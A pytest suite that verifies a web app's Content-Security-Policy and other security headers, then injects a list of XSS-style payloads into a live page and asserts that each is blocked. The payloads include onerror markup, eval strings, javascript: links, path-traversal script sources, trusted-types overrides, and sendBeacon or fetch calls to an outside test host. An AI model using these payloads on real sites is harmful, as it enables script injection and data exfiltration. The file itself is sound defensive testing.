"""The Content-Security-Policy and its company: on every answer; what they stop in a page."""

import re

import pytest
from wire import say

API = "/api/v1"
ANSWERS = {
    "/": 307,
    "/app/": 200,
    "/app/nowhere": 404,
    "/app/assets/style.css": 200,
    "/app/_dash-layout": 200,
    "/app/_dash-component-suites/nope.js": 404,
    "/app/figures/edf.html?population=1": 200,
    "/app/figures/edf.html?population=99\nAccept: text/html": 404,
    "/api/docs": 200,
    "/api/docs-files/swagger-ui.css": 200,
    f"{API}/populations": 200,
    f"{API}/populations/99": 404,
    f"{API}/populations?x=%00": 422,
    f"{API}/populations/1/columns": 200,
    "/nowhere": 404,
}
STRICT = {
    "default-src": "'none'",
    "style-src-attr": "'none'",
    "base-uri": "'none'",
    "frame-ancestors": "'none'",
    "require-trusted-types-for": "'script'",
    "trusted-types": "default",
}
HASH = re.compile(r"'sha256-[\w+/]{43}='")


def directives(headers):
    parts = (part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
    return dict(parts)


@pytest.mark.parametrize(("path", "status"), ANSWERS.items())
def test_every_answer_has_its_policy(served, path, status):
    answered, headers, _ = say(served.port, path)
    assert answered == status
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["cross-origin-embedder-policy"] == "require-corp"
    assert "camera=()" in headers["permissions-policy"]
    if answered == 200 and "/figures/" in path:
        return  # tests/security/test_figures.py
    assert headers["cross-origin-opener-policy"] == "same-origin"
    policy = directives(headers)
    strict = {k: v for k, v in STRICT.items() if path != "/api/docs" or "trusted" not in k}
    assert policy == policy | strict
    for name in ("script-src", "style-src", "connect-src", "worker-src", "form-action"):
        own, *hashes = policy[name].split()
        assert own == "'self'"
        assert all(HASH.fullmatch(one) for one in hashes)
        assert not hashes or name in ("script-src", "style-src")


OF_SOMEBODY = [
    f"{API}/archive?population=1",
    f"{API}/audit.jsonl",
    *(path for path in ANSWERS if path != "/" and not path.endswith(".css")),
]


@pytest.mark.parametrize("path", OF_SOMEBODY)
def test_no_cache_on_the_way_gives_anybody_what_is_another_s(served, path):
    _, headers, _ = say(served.port, path)
    assert "private" in headers["cache-control"] or "no-store" in headers["cache-control"]
    assert {"cookie", "authorization"} <= set(headers["vary"].lower().split(", "))


def test_no_script_stands_in_a_page(served):
    for path in ("/app/", "/app/new", "/app/compare", "/app/queue"):
        _, headers, body = say(served.port, path)
        assert directives(headers)["script-src"] == "'self'"
        inline = re.findall(rb"<script(?![^>]*\bsrc=)([^>]*)>", body)
        assert [b"application/json" in one for one in inline] == [True]
        assert b"<style" not in body


@pytest.mark.parametrize("path", ["/app/", "/app/compare", "/api/docs"])
def test_a_head_fits_into_what_a_proxy_keeps_for_it(served, path):
    """nginx: 4 KiB (proxy_buffer_size); beyond, it answers 502."""
    _, headers, _ = say(served.port, path)
    size = sum(len(name) + len(value) + 4 for name, value in headers.items())
    assert size < 3_900


ATTEMPTS = {
    "markup": """() => { document.body.innerHTML = "<img src=x onerror='window.owned=1'>"; }""",
    "markup beside": """() => document.body.insertAdjacentHTML("beforeend", "<b>x</b>")""",
    "a document": """() => document.write("<script>window.owned=1</" + "script>")""",
    "a frame's": """() => { const f = document.createElement("iframe");
      f.srcdoc = "<script>parent.owned=1</" + "script>"; document.body.append(f); }""",
    "a script": """() => { const s = document.createElement("script");
      s.textContent = "window.owned = 1"; document.body.append(s); }""",
    "a handler": """() => { const b = document.createElement("button");
      b.setAttribute("onclick", "window.owned = 1"); document.body.append(b); b.click(); }""",
    "a link": """() => { const a = document.createElement("a");
      a.href = "javascript:window.owned=1"; document.body.append(a); a.click(); }""",
    "text": """() => { eval("window.owned = 1"); }""",
    "a function": """() => { new Function("window.owned = 1")(); }""",
    "a timer": """() => { setTimeout("window.owned = 1"); }""",
    "another's script": """(site) => { const s = document.createElement("script");
      s.src = site + "script.js"; document.body.append(s); }""",
    "our API as a script": """() => { const s = document.createElement("script");
      s.src = "/api/v1/populations"; document.body.append(s); }""",
    "a folder left": """() => { const s = document.createElement("script");
      s.src = "/app/assets/..%2f..%2fapi/v1/populations"; document.body.append(s); }""",
    "data as a script": """() => { const s = document.createElement("script");
      s.src = "data:text/javascript,window.owned=1"; document.body.append(s); }""",
    "a module": """(site) => import(site + "module.mjs").catch(() => null)""",
    "a worker": """() => { new Worker(URL.createObjectURL(new Blob(["1"]))); }""",
    "asking another": """(site) => fetch(site + "fetched").catch(() => null)""",
    "telling another": """(site) => { navigator.sendBeacon(site + "told", "all"); }""",
    "an image": """(site) => { new Image().src = site + "image"; }""",
    "a style": """(site) => { const l = document.createElement("link"); l.rel = "stylesheet";
      l.href = site + "style"; document.head.append(l); }""",
    "styled text": """() => { const s = document.createElement("style");
      s.textContent = "body { display: none }"; document.head.append(s); }""",
    "a frame": """(site) => { const f = document.createElement("iframe");
      f.src = site + "framed"; document.body.append(f); }""",
    "a form": """(site) => { const f = document.createElement("form");
      f.action = site + "sent"; document.body.append(f); f.submit(); }""",
    "a base": """(site) => { const b = document.createElement("base"); b.href = site;
      document.head.append(b); return fetch("moved").catch(() => null); }""",
    "a policy": """() => {
      trustedTypes.createPolicy("mine", { createHTML: (text) => text }); }""",
    "the policy again": """() => {
      trustedTypes.createPolicy("default", { createHTML: (text) => text }); }""",
}


@pytest.fixture(scope="module")
def opened(served, browser):
    page = browser.new_page()
    page.goto(f"{served.url}/app/queue")
    page.locator("#queue-populations tbody tr").first.wait_for(timeout=60_000)
    yield page
    page.close()


@pytest.mark.browser
@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_got_into_a_page_does_nothing(opened, elsewhere, refusals, attempt):
    elsewhere.asked.clear()
    script = f"""(site) => {{
      window.refused = [];
      addEventListener("securitypolicyviolation", ({{ effectiveDirective }}) =>
        window.refused.push(effectiveDirective));
      // Later: what a debugger runs, as this, may do more than a page.
      setTimeout(() => {{ try {{ ({ATTEMPTS[attempt]})(site); }} catch {{}} }});
    }}"""
    opened.evaluate(script, elsewhere.url("/"))
    opened.wait_for_timeout(300)
    assert opened.evaluate("() => window.owned ?? null") is None
    assert opened.evaluate("() => getComputedStyle(document.body).display") == "block"
    assert elsewhere.asked == []
    told = opened.evaluate("() => window.refused") or refusals
    assert told or attempt == "our API as a script"
    refusals.clear()


@pytest.mark.browser
def test_the_documentation_works_under_its_policy(served, page):
    page.goto(f"{served.url}/api/docs")
    one = page.locator(".opblock-summary", has_text="/api/v1/populations/{population_id}").first
    one.click()
    page.get_by_role("button", name="Try it out").first.click()
    page.locator(".opblock input").first.fill("1")
    page.get_by_role("button", name="Execute").first.click()
    page.locator(".response .microlight", has_text='"easy"').first.wait_for()
